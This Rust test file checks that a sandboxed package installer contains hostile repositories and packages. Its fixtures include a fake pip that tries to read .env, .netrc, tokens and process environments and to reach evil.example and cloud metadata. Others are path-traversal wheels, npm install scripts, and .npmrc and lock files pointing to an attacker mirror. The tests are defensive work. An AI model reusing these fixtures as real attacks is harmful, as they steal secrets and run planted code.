//! Packages and repositories that want more than to be installed. The worst of them runs code: a repository whose own
//! pip is a program that tries to get out.

use std::collections::BTreeMap;
use std::path::Path;
use std::process::Stdio;
use std::time::{Duration, Instant};

use tempfile::TempDir;

use super::mirror::{Mirror, npm_package, wheel};
use super::{home_of, install, python_project, site_packages};
use crate::contain::{everything, live, processes, unchanged, uuid};
use crate::support::{Home, differences, folder, holds, tree, until};

/// A repository whose virtual environment has this program for a pip.
fn with_pip(program: &str, files: &[(&str, &str)]) -> TempDir {
    let repository = python_project(files);
    let pip = site_packages(&repository.path().join(".venv")).join("pip");
    std::fs::remove_dir_all(&pip).expect("it is there");
    std::fs::create_dir(&pip).expect("the folder is writable");
    std::fs::write(pip.join("__init__.py"), "").expect("the folder is writable");
    std::fs::write(pip.join("__main__.py"), program).expect("the folder is writable");
    repository
}

const TINY: &str = r#"{"names": ["tiny"]}"#;

/// Every attempt prints its name and the error that it got.
const HOSTILE_PIP: &str = r#"
import errno, json, os, pathlib, signal, socket, sys, urllib.request

know = json.load(open("know.json"))
HOME = pathlib.Path(os.environ["HOME"])

def attempt(name, body):
    try:
        what = "did: %s" % (body(),)
    except OSError as error:
        what = errno.errorcode.get(error.errno, repr(error))
    except Exception as error:
        what = repr(error)
    print("attempt %s %s" % (name, what), flush=True)

def reach(host, port, family=socket.AF_INET):
    socket.create_connection((host, port), timeout=5)

def through(host):
    proxy = os.environ["HTTPS_PROXY"].rsplit(":", 1)
    with socket.create_connection(("127.0.0.1", int(proxy[1])), timeout=20) as connection:
        connection.sendall(("CONNECT %s HTTP/1.1\r\n\r\n" % host).encode())
        answer = connection.recv(4096).split(b"\r\n")[0].decode()
    if " 403 " in answer:
        raise PermissionError(errno.EACCES, "")
    return answer

def unix(path):
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(path)

attempt("write_outside", lambda: pathlib.Path("../escaped.txt").write_text("x") and os.listdir("/outside"))
attempt("write_system", lambda: pathlib.Path("/usr/escaped.txt").write_text("x"))
attempt("read_hidden", lambda: pathlib.Path(".env").read_text())
attempt("read_hidden_package", lambda: next(pathlib.Path(".venv").rglob(".netrc")).read_text())
attempt("read_token", lambda: (HOME / "token").read_text())
attempt("read_users_pip", lambda: (HOME / ".config/pip/pip.conf").read_text())
attempt("reach_daemon", lambda: reach("127.0.0.1", know["daemon"]))
attempt("reach_out", lambda: reach("192.0.2.1", 80))
attempt("resolve", lambda: socket.getaddrinfo("example.org", 443))
attempt("reach_daemon_by_proxy", lambda: through("127.0.0.1:%d" % know["daemon"]))
attempt("reach_evil_by_proxy", lambda: through("127.0.0.1:%d" % know["evil"]))
attempt("reach_other_host_by_proxy", lambda: through("evil.example:443"))
attempt("reach_metadata_by_proxy", lambda: through("169.254.169.254:80"))
attempt("reach_mirror_by_proxy", lambda: through("127.0.0.1:%d" % know["mirror"]).split()[1])
attempt("unix_socket", lambda: unix(know["socket"]))
attempt("signal_daemon", lambda: os.kill(know["process"], signal.SIGKILL))
attempt("see_daemon", lambda: open("/proc/%d/environ" % know["process"]).read())
attempt("secret_environment", lambda: os.environ["HOSTED_API_KEY"])
pathlib.Path("planted.py").write_text("evil\n")
pathlib.Path("app.py").write_text("evil\n")
pathlib.Path(".venv/marker").write_text("installed\n")
sys.exit(know["status"])
"#;

#[test]
fn a_repository_whose_pip_runs_code_gets_nowhere() {
    let (mirror, evil) = (Mirror::new().start(), Mirror::new().start());
    let (home, repository) = (
        home_of(&mirror),
        with_pip(HOSTILE_PIP, &[("app.py", "x = 1\n"), (".env", "KEY=hunter2\n")]),
    );
    let root = repository.path();
    std::fs::write(root.join(".venv/.netrc"), "password hunter2\n").expect("the folder is writable");
    home.serve();
    let record = home.record();
    let socket = home.path().join("users.sock");
    let _listener = std::os::unix::net::UnixListener::bind(&socket).expect("a socket can be made");
    let port = |mirror: &Mirror| mirror.port().parse::<u16>().expect("it is a port");
    let know = |status: i32| {
        serde_json::json!({
            "daemon": record["port"], "process": record["pid"], "evil": port(&evil), "mirror": port(&mirror),
            "socket": socket, "status": status,
        })
    };
    std::fs::write(root.join("know.json"), know(1).to_string()).expect("the folder is writable");
    let before = everything(root);
    let failed = install(&home, root, TINY).expect(1).stderr;
    let attempts = attempts(&home);
    let expected = [
        ("write_outside", "FileNotFoundError"),
        ("write_system", "EROFS"),
        ("read_hidden", "ENOENT"),
        ("read_hidden_package", "StopIteration()"),
        ("read_token", "ENOENT"),
        ("read_users_pip", "ENOENT"),
        ("reach_daemon", "ECONNREFUSED"),
        ("reach_out", "ENETUNREACH"),
        ("resolve", "gaierror"),
        ("reach_daemon_by_proxy", "EACCES"),
        ("reach_evil_by_proxy", "EACCES"),
        ("reach_other_host_by_proxy", "EACCES"),
        ("reach_metadata_by_proxy", "EACCES"),
        ("reach_mirror_by_proxy", "did: 200"),
        ("unix_socket", "ENOENT"),
        ("signal_daemon", "ESRCH"),
        ("see_daemon", "ENOENT"),
        ("secret_environment", "KeyError"),
    ];
    for (name, error) in expected {
        let got = attempts.get(name).map_or("nothing", String::as_str);
        // Beside the repository lies a folder of the sandbox's own, or nothing.
        assert!(
            got.contains(error) || name == "write_outside",
            "{name}: {got} instead of {error}"
        );
    }
    holds(
        &failed,
        &[
            "the sandbox refused what the installation wanted to reach",
            "installation tried to reach evil.example: refused",
            "installation tried to reach 169.254.169.254:80: refused",
            &format!("installation tried to reach 127.0.0.1:{}: refused", record["port"]),
            "nothing was changed",
        ],
    );
    assert!(!failed.contains("hunter2"));
    assert!(evil.asked().is_empty());
    assert!(!root.parent().expect("it has one").join("escaped.txt").exists());
    unchanged(root, &before);
    assert_eq!(home.record(), record, "the daemon lives");

    // The installer reports success: its own changes to its environment are kept, and no other.
    std::fs::write(root.join("know.json"), know(0).to_string()).expect("the folder is writable");
    let before = tree(root);
    install(&home, root, TINY).expect(0);
    let mut kept = differences(root, &before);
    // Python notes there what it compiled of pip.
    kept.retain(|path| !path.to_string_lossy().contains("__pycache__"));
    assert_eq!(kept, [Path::new(".venv/marker")]);
}

/// Returns the result of every attempt of the last session.
fn attempts(home: &Home) -> BTreeMap<String, String> {
    let lines = live(home);
    let attempts = lines
        .iter()
        .filter_map(|line| line.strip_prefix("attempt ")?.split_once(' '));
    attempts
        .map(|(name, what)| (name.to_owned(), what.to_owned()))
        .collect()
}

#[test]
fn what_is_no_package_is_not_put_in_place() {
    let program = "import os\nos.mkfifo('.venv/pipe')\nopen('.venv/marker', 'w').close()\n";
    let (home, repository) = (home_of(&Mirror::new().start()), with_pip(program, &[]));
    let before = tree(repository.path());
    let refused = install(&home, repository.path(), TINY).expect(1);
    holds(
        &refused.stderr,
        &["could not be put in place, and nothing was changed: `pipe` is neither a file, a folder nor a link"],
    );
    let changed = differences(repository.path(), &before);
    assert!(changed.is_empty(), "{changed:?}");
}

#[test]
fn an_installation_that_outlives_its_session_is_ended_and_leaves_nothing() {
    let mark = format!("endless-{}", uuid());
    let program = format!(
        "import os, signal, subprocess, sys, time\n\
         open('.venv/half', 'w').close()\n\
         signal.signal(signal.SIGTERM, signal.SIG_IGN)\n\
         code = 'import os, time; os.setsid(); time.sleep(60) # {mark}'\n\
         subprocess.Popen([sys.executable, '-c', code], env={{}})\n\
         time.sleep(60)\n"
    );
    let (home, repository) = (home_of(&Mirror::new().start()), with_pip(&program, &[]));
    home.serve();
    let before = everything(repository.path());
    let call = ["skill", "call", "install_package", TINY, "--allow", "install"];
    let mut command = home.tool(repository.path(), &call);
    let mut child = command
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("the binary runs");
    until("it runs", || !processes(&mark).is_empty());
    let pid = rustix::process::Pid::from_child(&child);
    rustix::process::kill_process(pid, rustix::process::Signal::INT).expect("it is ours");
    let started = Instant::now();
    until("everything is gone", || processes(&mark).is_empty());
    assert!(started.elapsed() < Duration::from_secs(10), "{:?}", started.elapsed());
    child.wait().expect("it ends as well");
    unchanged(repository.path(), &before);
}

#[test]
fn a_requirement_that_names_another_place_does_not_reach_it() {
    let evil = Mirror::new().start();
    let mut mirror = Mirror::new();
    let elsewhere = format!("evil @ {}/files/evil-1.0-py3-none-any.whl", evil.url);
    mirror.add_wheel(
        "tiny",
        "1.0",
        &wheel("tiny", "1.0", &[("tiny.py", "x = 1\n")], &elsewhere),
    );
    let mirror = mirror.start();
    // Neither do the repository's own settings of an installer count.
    let settings = format!("[global]\nindex-url = {}/simple/\n", evil.url);
    let (home, repository) = (home_of(&mirror), python_project(&[("pip.conf", &settings)]));
    std::fs::write(repository.path().join(".venv/pip.conf"), &settings).expect("the folder is writable");
    let before = everything(repository.path());
    let refused = install(&home, repository.path(), TINY).expect(1).stderr;
    holds(
        &refused,
        &[&format!(
            "installation tried to reach 127.0.0.1:{}: refused",
            evil.port()
        )],
    );
    assert!(evil.asked().is_empty(), "{:?}", evil.asked());
    unchanged(repository.path(), &before);
}

#[test]
fn a_package_that_would_have_to_be_built_is_not_installed() {
    let mut mirror = Mirror::new();
    let place = folder(&[
        ("tiny-1.0/setup.py", "open('/tmp/built', 'w')\n"),
        ("tiny-1.0/PKG-INFO", "Name: tiny\nVersion: 1.0\n"),
    ]);
    crate::support::run(place.path(), Path::new("tar"), &["-czf", "tiny-1.0.tar.gz", "tiny-1.0"]);
    let archive = std::fs::read(place.path().join("tiny-1.0.tar.gz")).expect("it was made");
    mirror.add_file("tiny", "tiny-1.0.tar.gz", &archive);
    let mirror = mirror.start();
    let (home, repository) = (home_of(&mirror), python_project(&[]));
    let before = everything(repository.path());
    let refused = install(&home, repository.path(), TINY).expect(1).stderr;
    holds(&refused, &["no package fits `tiny`", "a package without wheels"]);
    assert!(
        !mirror.asked().iter().any(|path| path.starts_with("/files/")),
        "it is not even fetched"
    );
    unchanged(repository.path(), &before);
}

#[test]
fn a_wheel_that_wants_to_be_elsewhere_is_refused() {
    let mut mirror = Mirror::new();
    mirror.add_wheel(
        "tiny",
        "1.0",
        &wheel("tiny", "1.0", &[("../../../../../escaped.py", "x = 1\n")], ""),
    );
    let mirror = mirror.start();
    let (home, repository) = (home_of(&mirror), python_project(&[("app.py", "x = 1\n")]));
    let before = everything(repository.path());
    let refused = install(&home, repository.path(), TINY).expect(1).stderr;
    holds(&refused, &["nothing was changed"]);
    unchanged(repository.path(), &before);
}

const MANIFEST: &str = "{\"name\": \"a\", \"version\": \"1.0.0\"}\n";

#[test]
fn scripts_of_npm_packages_do_not_run_and_programs_stay_in_their_folder() {
    let scripts = ", \"scripts\": {\"preinstall\": \"touch ran\", \"install\": \"touch ran\", \"postinstall\": \"touch ran\"}\
                   , \"bin\": {\"../../../escaped\": \"index.js\", \"good\": \"index.js\"}";
    let mut mirror = Mirror::new();
    let package = npm_package(
        "evil",
        "1.0.0",
        scripts,
        &[("index.js", "1\n"), (".npmrc", "registry=http://evil.example\n")],
    );
    mirror.add_npm("evil", &[("1.0.0", package)]);
    let mirror = mirror.start();
    let manifest = MANIFEST.replace(
        "}",
        ", \"scripts\": {\"prepare\": \"touch ran\", \"postinstall\": \"touch ran\"}}",
    );
    let (home, repository) = (home_of(&mirror), folder(&[("package.json", &manifest)]));
    install(&home, repository.path(), r#"{"names": ["evil"]}"#).expect(0);
    let left: Vec<_> = everything(repository.path()).into_keys().collect();
    assert!(
        !left.iter().any(|path| path.ends_with("ran")
            || path.ends_with("escaped") && !path.starts_with(repository.path().join("node_modules"))),
        "{left:?}"
    );
    assert!(
        left.iter().any(|path| path.ends_with("node_modules/evil/index.js")),
        "{left:?}"
    );
}

#[test]
fn npm_projects_that_name_other_places_do_not_reach_them() {
    let evil = Mirror::new().start();
    let mut mirror = Mirror::new();
    mirror.add_npm(
        "tiny-package",
        &[(
            "1.0.0",
            npm_package("tiny-package", "1.0.0", "", &[("index.js", "1\n")]),
        )],
    );
    let elsewhere = format!(", \"dependencies\": {{\"evil\": \"{}/evil.tgz\"}}", evil.url);
    mirror.add_npm(
        "lure",
        &[(
            "1.0.0",
            npm_package("lure", "1.0.0", &elsewhere, &[("index.js", "1\n")]),
        )],
    );
    let mirror = mirror.start();
    let home = home_of(&mirror);
    let settings = format!(
        "registry={}/npm/\nignore-scripts=false\nnode-options=--require ./evil.js\n",
        evil.url
    );

    // The repository's own settings do not count.
    let files = [
        ("package.json", MANIFEST),
        (".npmrc", &settings),
        ("evil.js", "require('fs').writeFileSync('ran', '')\n"),
    ];
    let repository = folder(&files);
    install(&home, repository.path(), r#"{"names": ["tiny-package"]}"#).expect(0);
    assert!(repository.path().join("node_modules/tiny-package/index.js").is_file());
    assert!(!repository.path().join("ran").exists());

    // A path that a lock file or a package names is not reached.
    let lock = serde_json::json!({
        "name": "a", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
        "packages": {
            "": {"name": "a", "version": "1.0.0", "dependencies": {"locked": "1.0.0"}},
            "node_modules/locked": {"version": "1.0.0", "resolved": format!("{}/npm/locked/-/locked-1.0.0.tgz", evil.url)},
        },
    });
    let needs = MANIFEST.replace("}", ", \"dependencies\": {\"locked\": \"1.0.0\"}}");
    let locked = folder(&[("package.json", &needs), ("package-lock.json", &lock.to_string())]);
    let plain = folder(&[("package.json", MANIFEST)]);
    for (repository, names) in [(&locked, r#"["tiny-package"]"#), (&plain, r#"["lure"]"#)] {
        let before = everything(repository.path());
        let refused = install(&home, repository.path(), &format!(r#"{{"names": {names}}}"#))
            .expect(1)
            .stderr;
        holds(
            &refused,
            &[
                &format!("installation tried to reach 127.0.0.1:{}: refused", evil.port()),
                "nothing was changed",
            ],
        );
        unchanged(repository.path(), &before);
    }
    assert!(evil.asked().is_empty(), "{:?}", evil.asked());
}
